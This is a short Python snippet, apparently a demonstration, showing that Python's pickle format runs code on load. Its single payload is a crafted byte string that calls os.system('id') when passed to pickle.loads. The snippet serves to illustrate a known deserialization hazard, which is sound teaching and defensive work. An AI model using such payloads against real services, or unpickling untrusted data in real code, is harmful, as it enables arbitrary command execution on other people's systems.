# pickle payloads run code on load
import pickle
pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
